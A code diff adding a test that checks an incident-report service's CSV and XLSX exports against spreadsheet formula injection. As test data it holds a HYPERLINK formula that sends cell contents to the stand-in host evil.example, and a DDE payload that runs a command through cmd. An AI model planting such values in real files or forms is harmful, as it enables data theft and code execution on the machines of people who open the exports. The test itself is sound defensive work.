@@ -180,3 +180,47 @@ async def test_bad_parameters_and_unknown_incidents(
     assert bad.status_code == 422
     assert len(bad.json()["errors"]) == 2
     assert (await coordinator_client.get("/api/v1/incidents/999/report")).status_code == 404
+
+
+EVIL = '=HYPERLINK("https://evil.example/?q="&A1,"Klikk her")'
+
+
+async def test_a_formula_in_a_name_is_inert_in_csv_and_xlsx(
+    coordinator_client: Client, sessionmaker: async_sessionmaker[AsyncSession]
+) -> None:
+    from dispatch.audit.service import Actor
+    from dispatch.directory.demo import load_demo
+    from dispatch.directory.models import Contact, Organisation
+
+    async with sessionmaker() as session, session.begin():
+        await load_demo(session, actor=Actor("test"))
+        await session.execute(update(Contact).values(name=EVIL))
+        await session.execute(update(Organisation).values(name="@SUM(1+1)*cmd|' /C calc'!A0"))
+    body = await declare_demo_exercise(
+        coordinator_client, sessionmaker, title="Formler", message=MESSAGE
+    )
+    url = f"/api/v1/incidents/{body['id']}/report"
+    csv_text = (await coordinator_client.get(url, params={"format": "csv"})).text
+    rows = list(csv.DictReader(io.StringIO(csv_text.lstrip("\ufeff"))))
+    assert {r["name"] for r in rows if r["name"]} == {"'" + EVIL}
+    assert all(not r["organisation"].startswith("@") for r in rows)
+    assert all(not r["address"].startswith("+") for r in rows)  # '+47… stays text too
+
+    xlsx = await coordinator_client.get(url, params={"format": "xlsx"})
+    workbook = openpyxl.load_workbook(io.BytesIO(xlsx.content))
+    names = [
+        cell
+        for row in workbook["Deliveries"].iter_rows(min_row=2)
+        for cell in row
+        if cell.value == EVIL
+    ]
+    assert names, "the name is kept exactly as typed"
+    assert {cell.data_type for cell in names} == {"s"}  # a string, never a formula ("f")
+    formulas = [
+        cell
+        for sheet in workbook.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type == "f"
+    ]
+    assert formulas == []
